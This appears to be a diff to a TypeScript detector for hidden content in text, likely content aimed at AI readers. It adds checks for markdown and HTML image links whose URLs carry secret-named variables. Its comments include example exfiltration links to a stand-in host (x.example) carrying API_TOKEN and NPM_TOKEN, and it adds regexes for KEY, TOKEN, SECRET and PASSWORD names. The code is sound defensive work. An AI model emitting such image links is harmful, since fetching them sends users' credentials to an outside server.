@@ -160,12 +160,32 @@ function imageAltSegments(text: string, out: Segment[]): void {
   for (let at = text.indexOf('!['); at >= 0;) {
     let end = at + 2;
     for (let c = text.charCodeAt(end); end < text.length && c !== 93 && c !== 10; c = text.charCodeAt(++end));
-    if (end - at - 2 >= 12 && text.charCodeAt(end) === 93 && text.charCodeAt(end + 1) === 40) {
-      out.push({ text: text.slice(at + 2, end), offset: at, at: at + 2, technique: 'alt-text' });
+    if (text.charCodeAt(end) === 93 && text.charCodeAt(end + 1) === 40) {
+      if (end - at - 2 >= 12)
+        out.push({ text: text.slice(at + 2, end), offset: at, at: at + 2, technique: 'alt-text' });
+      // The image's URL, which the person never sees, when it carries a secret named as a variable
+      // (`![status](https://x.example/b.png?k=API_TOKEN)`): fetched unasked once the stand-in is filled.
+      SECRET_IN_URL.lastIndex = end + 2;
+      const m = SECRET_IN_URL.exec(text);
+      if (m) out.push({ text: text.slice(at, end + 2 + m[0].length), offset: at, at, technique: 'image-url' });
       at = text.indexOf('![', end + 2);
     } else at = text.indexOf('![', end);
   }
 }
+/** The same in HTML: `<img src="https://x.example/p.gif?u=NPM_TOKEN">` (the tag read whole). */
+function imageSourceSegments(text: string, out: Segment[]): void {
+  for (let at = text.indexOf('<img'); at >= 0; at = text.indexOf('<img', at + 4)) {
+    const end = text.indexOf('>', at);
+    if (end < 0) return;
+    if (end - at > 2000) continue;
+    const tag = text.slice(at, end + 1);
+    if (SECRET_IN_SRC.test(tag)) out.push({ text: tag, offset: at, at, technique: 'image-url' });
+  }
+}
+const SECRET_IN_SRC =
+  /\b[sS][rR][cC]\s*=\s*["']?https?:\/\/[^\s"'<>]{0,300}?[?&][\w-]+=[^\s"'<>&]{0,100}?\b[A-Z][A-Z0-9]*_(?:[A-Z0-9]+_)*(?:KEY|TOKEN|SECRET|PASSWORD)\b/;
+const SECRET_IN_URL =
+  /[ \t]*https?:\/\/[^\s)"'<>]{0,300}?[?&][\w-]+=[^\s)"'<>&]{0,100}?\b[A-Z][A-Z0-9]*_(?:[A-Z0-9]+_)*(?:KEY|TOKEN|SECRET|PASSWORD)\b/y;
 
 const LINK_TITLE = /\]\([^)\s]+\s+"([^"\n]{12,})"\)/y;
 
@@ -433,6 +453,7 @@ export function hiddenSegments(text: string, carriers: Carriers = ALL_CARRIERS):
   const out: Segment[] = [];
   // Each detector runs only where its carrier is present (anchors.ts notes them in one pass).
   markupSegments(text, out, carriers);
+  if (carriers.imgTags) imageSourceSegments(text, out);
   if (carriers.tags) tagSegments(text, out);
   if (carriers.selectors) variationSegments(text, out);
   if (carriers.invisible) zeroWidthBinarySegments(text, out);
